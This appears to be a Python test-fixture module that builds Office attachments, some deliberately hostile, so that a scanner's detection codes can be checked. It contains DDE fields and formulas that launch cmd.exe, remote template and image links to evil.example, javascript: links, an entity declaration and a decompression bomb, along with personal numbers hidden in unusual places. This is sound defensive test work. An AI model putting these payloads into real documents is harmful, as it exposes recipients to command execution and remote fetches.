"""Word and Excel files as unions send them, and as somebody hostile makes them."""

import io
import zipfile
from collections.abc import Callable, Iterator, Mapping

import docx
import openpyxl
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from tests.assets.attachments.papers import jpeg
from tests.text.test_personal_data import CARD, IDENTITY, MOBILE

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
Parts = dict[str, bytes]
Change = Callable[[Parts], object]


def document(*paragraphs: str, fill: Callable[[docx.document.Document], object] = lambda _: None) -> bytes:
    made = docx.Document()
    for relation in [key for key, each in made.part.rels.items() if each.reltype.endswith("stylesWithEffects")]:
        made.part.rels.pop(relation)  # half a megabyte of looks
    for style in [each for each in made.styles if each.type == WD_STYLE_TYPE.TABLE and each.name != "Normal Table"]:
        style.delete()
    made.core_properties.author = "示例作者甲"
    made.core_properties.comments = "内部"
    made.add_heading("附件：示例名单", 1)
    for text in paragraphs or ("2013年示例工作室名单",):
        made.add_paragraph(text)
    fill(made)
    stream = io.BytesIO()
    made.save(stream)
    return stream.getvalue()


def workbook(*rows: list[object], fill: Callable[[openpyxl.Workbook], object] = lambda _: None) -> bytes:
    book = openpyxl.Workbook()
    book.properties.creator = "示例作者甲"
    book.active.title = "名单"
    for row in rows or (["工作室", "数目"], ["示例焊接工作室", 3]):
        book.active.append(row)
    fill(book)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def changed(data: bytes, *changes: Change) -> bytes:
    """The package with its parts changed."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    for change in changes:
        change(parts)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return stream.getvalue()


def put(name: str, data: bytes) -> Change:
    return lambda parts: parts.update({name: data})


def swap(name: str, old: str, new: str) -> Change:
    def change(parts: Parts) -> None:
        assert old.encode() in parts[name], (name, old)
        parts[name] = parts[name].replace(old.encode(), new.encode(), 1)

    return change


def related(owner: str, kind: str, target: str, *, outside: bool = False, base: str = OFFICE) -> Change:
    """A relation from a part, and the part that it leads to unless that lies outside."""
    folder, _, name = owner.rpartition("/")
    path = f"{folder}/_rels/{name}.rels"
    mode = ' TargetMode="External"' if outside else ""
    entry = f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{target}"{mode}/></Relationships>'

    def change(parts: Parts) -> None:
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        parts[path] = parts.get(path, empty).replace(b"</Relationships>", entry.encode())
        if not outside:
            parts.setdefault(f"{folder}/{target}", b"<x/>")

    return change


WORD, BOOK, SHEET = "word/document.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"
MARK = "2013年示例工作室名单"


def in_word(markup: str) -> bytes:
    """A document with something of our own in a paragraph."""
    return changed(document(), swap(WORD, f"<w:t>{MARK}</w:t></w:r>", f"<w:t>{MARK}</w:t></w:r>{markup}"))


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return in_word(begin + runs + end)


def formula(text: str) -> bytes:
    return changed(workbook(), swap(SHEET, "<v>3</v>", f"<f>{text}</f><v>3</v>"))


def commented(book: openpyxl.Workbook) -> None:
    book.active["A1"].comment = openpyxl.comments.Comment("内部意见", "示例作者甲")


def bomb() -> bytes:
    cells = b'<row r="9"><c r="A9" t="inlineStr"><is><t>' + b"0" * 60_000_000 + b"</t></is></c></row>"
    return changed(workbook(), put("xl/worksheets/sheet2.xml", cells))


LAUGHS = '<!DOCTYPE x [<!ENTITY a "b">]><w:document'
WIDE = LAUGHS.replace("<w:document", "<x/>").encode("utf-16-le")

ACTIVE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "macro": ("docx", lambda: changed(document(), put("word/vbaProject.bin", b"x")), "office-active"),
    "macro by type": (
        "docx",
        lambda: changed(document(), swap("[Content_Types].xml", "document.main", "document.macroEnabled.main")),
        "office-active",
    ),
    "macro under another name": (
        "docx",
        lambda: changed(document(), related(WORD, "vbaProject", "x.xml")),
        "office-active",
    ),
    "object": ("docx", lambda: changed(document(), related(WORD, "oleObject", "embeddings/x.bin")), "office-active"),
    "file inside": (
        "docx",
        lambda: changed(document(), related(WORD, "package", "embeddings/x.xlsx")),
        "office-active",
    ),
    "control": ("docx", lambda: changed(document(), related(WORD, "control", "activeX/x.xml")), "office-active"),
    "page inside": ("docx", lambda: changed(document(), related(WORD, "aFChunk", "x.html")), "office-active"),
    "unknown part": ("docx", lambda: changed(document(), related(WORD, "anything", "x.xml")), "office-active"),
    "template": (
        "docx",
        lambda: changed(
            document(), related("word/settings.xml", "attachedTemplate", "https://evil.example/x.dotm", outside=True)
        ),
        "office-outside",
    ),
    "linked object": (
        "docx",
        lambda: changed(document(), related(WORD, "oleObject", "https://evil.example/x", outside=True)),
        "office-outside",
    ),
    "frame": (
        "docx",
        lambda: changed(document(), related("word/webSettings.xml", "frame", "https://evil.example/", outside=True)),
        "office-outside",
    ),
    "remote picture": (
        "docx",
        lambda: changed(document(), related(WORD, "image", "https://evil.example/x.png", outside=True)),
        "office-outside",
    ),
    "drawing by address": (
        "docx",
        lambda: in_word(
            '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
            '<v:imagedata src="https://evil.example/x.png"/></v:shape></w:pict></w:r>'
        ),
        "office-outside",
    ),
    "link to a script": (
        "docx",
        lambda: changed(document(), related(WORD, "hyperlink", "javascript:alert(1)", outside=True)),
        "attachment-link",
    ),
    "link to a file": (
        "docx",
        lambda: changed(document(), related(WORD, "hyperlink", "file:///C:/x.exe", outside=True)),
        "attachment-link",
    ),
    "DDE": ("docx", lambda: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "office-active"),
    "DDE in pieces": ("docx", lambda: field("D", "DE c:\\\\cmd.exe"), "office-active"),
    "DDE spelled out": ("docx", lambda: field("QUOTE 68 68 69"), "office-active"),
    "DDE in short": (
        "docx",
        lambda: in_word('<w:fldSimple w:instr="DDE x y"><w:r><w:t>x</w:t></w:r></w:fldSimple>'),
        "office-active",
    ),
    "included file": ("docx", lambda: field('INCLUDETEXT "https://evil.example/x"'), "office-active"),
    "included picture": ("docx", lambda: field('INCLUDEPICTURE "https://evil.example/x"'), "office-active"),
    "field to a script": ("docx", lambda: field('HYPERLINK "javascript:alert(1)"'), "attachment-link"),
    "film": (
        "docx",
        lambda: in_word('<w:r><wp15:webVideoPr xmlns:wp15="urn:x" embeddedHtml="x"/></w:r>'),
        "office-active",
    ),
    "entities": ("docx", lambda: changed(document(), swap(WORD, "<w:document", LAUGHS)), "attachment-unreadable"),
    "entities in wide letters": (
        "docx",
        lambda: changed(document(), put("word/theme/theme1.xml", b"\xff\xfe" + WIDE)),
        "attachment-unreadable",
    ),
    "insertion": (
        "docx",
        lambda: in_word('<w:ins w:id="1" w:author="示例作者甲"><w:r><w:t>x</w:t></w:r></w:ins>'),
        "office-revisions",
    ),
    "deletion": (
        "docx",
        lambda: in_word('<w:del w:id="1" w:author="甲"><w:r><w:delText>x</w:delText></w:r></w:del>'),
        "office-revisions",
    ),
    "comment": (
        "docx",
        lambda: changed(
            document(),
            related(WORD, "comments", "comments9.xml"),
            put("word/comments9.xml", f'<w:comments {nsdecls("w")}><w:comment w:id="1"/></w:comments>'.encode()),
        ),
        "office-comments",
    ),
    "drawing of another kind": (
        "docx",
        lambda: changed(document(), related(WORD, "image", "media/x.emf")),
        "attachment-picture",
    ),
    "spreadsheet by another name": ("docx", workbook, "attachment-unreadable"),
    "old format": ("docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "office-locked"),
    "no zip": ("docx", lambda: b"<html>", "attachment-unreadable"),
    "bomb": ("xlsx", bomb, "office-too-large"),
    "sheet of macros": (
        "xlsx",
        lambda: changed(workbook(), related(BOOK, "xlMacrosheet", "macrosheets/x.xml")),
        "office-active",
    ),
    "connection": (
        "xlsx",
        lambda: changed(workbook(), related(BOOK, "connections", "connections.xml")),
        "office-active",
    ),
    "other workbook": (
        "xlsx",
        lambda: changed(workbook(), related(BOOK, "externalLink", "externalLinks/x.xml")),
        "office-active",
    ),
    "formula by DDE": ("xlsx", lambda: formula("cmd|'/c calc'!A0"), "office-active"),
    "formula that asks": ("xlsx", lambda: formula('WEBSERVICE("https://evil.example")'), "office-active"),
    "formula that calls": ("xlsx", lambda: formula('call ("x","y")'), "office-active"),
    "formula to another book": ("xlsx", lambda: formula("[1]Sheet1!A1"), "office-outside"),
    "formula to a script": ("xlsx", lambda: formula('HYPERLINK("javascript:alert(1)")'), "attachment-link"),
    "formula to who knows where": ("xlsx", lambda: formula("HYPERLINK(A1)"), "attachment-link"),
    "named formula by DDE": (
        "xlsx",
        lambda: changed(
            workbook(),
            swap(
                BOOK, "</sheets>", "</sheets><definedNames><definedName name='x'>cmd|'x'!A</definedName></definedNames>"
            ),
        ),
        "office-active",
    ),
    "comment in a cell": ("xlsx", lambda: workbook(fill=commented), "office-comments"),
}


def in_header(text: str) -> Callable[[docx.document.Document], object]:
    def fill(made: docx.document.Document) -> None:
        made.sections[0].header.paragraphs[0].text = text

    return fill


def in_boxes(text: str) -> Callable[[docx.document.Document], object]:
    def fill(made: docx.document.Document) -> None:
        table = made.add_table(1, len(text) + 1)
        table.cell(0, 0).text = "号码"
        for n, digit in enumerate(text, 1):
            table.cell(0, n).text = digit

    return fill


def in_pieces(text: str) -> Callable[[docx.document.Document], object]:
    def fill(made: docx.document.Document) -> None:
        paragraph = made.add_paragraph()
        for n, digit in enumerate(text):
            paragraph.add_run(digit).bold = bool(n % 2)

    return fill


def in_a_box(text: str) -> bytes:
    return in_word(
        f'<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" alt="{text}"><v:textbox><w:txbxContent>'
        f"<w:p/></w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )


def on_a_hidden_sheet(value: object) -> Callable[[openpyxl.Workbook], object]:
    def fill(book: openpyxl.Workbook) -> None:
        sheet = book.create_sheet("底稿")
        sheet.sheet_state = "veryHidden"
        sheet["C7"] = value

    return fill


def private() -> Iterator[tuple[str, bytes, str, str]]:
    """A name, a file, the code of what is to be found in it and its place."""
    for kind, number in (("identity", IDENTITY), ("mobile", MOBILE), ("card", CARD)):
        code = f"personal-{kind}-in-attachment"
        yield f"{kind}-text.docx", document(f"联系 {number}"), code, "正文里"
        yield f"{kind}-header.docx", document(fill=in_header(number)), code, "页眉里"
        yield f"{kind}-boxes.docx", document(fill=in_boxes(number)), code, "正文里"
        yield f"{kind}-pieces.docx", document(fill=in_pieces(number)), code, "正文里"
        yield f"{kind}-shape.docx", in_a_box(number), code, "正文里"
        yield f"{kind}-cell.xlsx", workbook(["姓名", "号码"], ["甲", number]), code, "工作表“名单”的 B2 格"
        yield f"{kind}-hidden.xlsx", workbook(fill=on_a_hidden_sheet(number)), code, "工作表“底稿”的 C7 格"
        yield f"{kind}-boxes.xlsx", workbook(["号码", *number]), code, "工作表“名单”的第 1 行"
        yield (
            f"{kind}-inline.xlsx",
            changed(workbook(), swap(SHEET, '<c r="B2" t="n"><v>3</v></c>', inline(number))),
            code,
            "工作表“名单”的 B2 格",
        )
    yield "number.xlsx", workbook(["电话"], [int(MOBILE)]), "personal-mobile-in-attachment", "工作表“名单”的 A2 格"
    scientific = changed(workbook(), swap(SHEET, "<v>3</v>", f"<v>{int(MOBILE):.9E}</v>"))
    yield "scientific.xlsx", scientific, "personal-mobile-in-attachment", "工作表“名单”的 B2 格"
    rounded = changed(workbook(), swap(SHEET, "<v>3</v>", f"<v>{IDENTITY[:15]}000</v>"))
    yield "rounded.xlsx", rounded, "personal-identity-in-attachment", "工作表“名单”的 B2 格"
    mobile = "personal-mobile-in-attachment"
    yield "over-row.xlsx", workbook(["甲", "138", "0013", "8000", "乙"]), mobile, "工作表“名单”的 B1 格"
    yield "over-column.xlsx", workbook(["甲", "138 0013"], ["乙", "8000"], ["丙", "丁"]), mobile, "工作表“名单”的 B1 格"
    yield "format.xlsx", workbook(fill=formatted('"138"00######')), mobile, "工作表“名单”的 D4 格"
    yield "letters.xlsx", workbook(fill=formatted('0"800"0"138000"', 13)), mobile, "工作表“名单”的 D4 格"
    yield "paragraphs.docx", document("联系 138 0013", "8000 找他"), mobile, "正文里"
    yield "over-row.docx", document(fill=in_table([["138", "0013", "8000"]])), mobile, "正文里"
    yield "over-column.docx", document(fill=in_table([["138 0013", "甲"], ["8000", "乙"]])), mobile, "正文里"
    yield (
        "symbols.docx",
        document(fill=in_symbols("Symbol", [0xF030 + int(digit) for digit in MOBILE])),
        mobile,
        "正文里",
    )
    yield (
        "circles.docx",
        document(fill=in_symbols("Wingdings", [0xF080 + int(digit) for digit in MOBILE])),
        mobile,
        "正文里",
    )
    yield "over-column.csv", "名,号\n甲,138 0013\n乙,8000\n".encode(), mobile, "第2行"
    yield "over-row.csv", "名,号,码\n甲,138 0013,8000\n".encode(), mobile, "第2行"


def formatted(code: str, value: int = 138000) -> Callable[[openpyxl.Workbook], object]:
    """A number in a format that prints digits."""

    def fill(book: openpyxl.Workbook) -> None:
        book.active["D4"] = value
        book.active["D4"].number_format = code

    return fill


def in_table(rows: list[list[str]]) -> Callable[[docx.document.Document], object]:
    def fill(made: docx.document.Document) -> None:
        table = made.add_table(len(rows), len(rows[0]))
        for row, texts in zip(table.rows, rows, strict=True):
            for cell, text in zip(row.cells, texts, strict=True):
                cell.text = text

    return fill


def in_symbols(font: str, codes: list[int]) -> Callable[[docx.document.Document], object]:
    def fill(made: docx.document.Document) -> None:
        run = made.add_paragraph().add_run()
        for code in codes:
            run._r.append(parse_xml(f'<w:sym {nsdecls("w")} w:font="{font}" w:char="{code:04X}"/>'))

    return fill


def inline(text: str) -> str:
    return f'<c r="B2" t="inlineStr"><is><r><t>{text[:5]}</t></r><r><t>{text[5:]}</t></r></is></c>'


def pictured(made: docx.document.Document) -> None:
    made.add_picture(io.BytesIO(jpeg(exif="secret place")))


def headed(made: docx.document.Document) -> None:
    """What plain documents have: a number on each page, a table, a link, contents."""
    paragraph = made.sections[0].footer.paragraphs[0]
    paragraph._p.append(parse_xml(f'<w:fldSimple {nsdecls("w")} w:instr=" PAGE  \\* MERGEFORMAT "/>'))
    made.add_table(2, 2).cell(0, 0).text = "序号"
    pictured(made)


def told(data: bytes) -> Mapping[str, bytes]:
    """All parts of a package, unpacked."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}
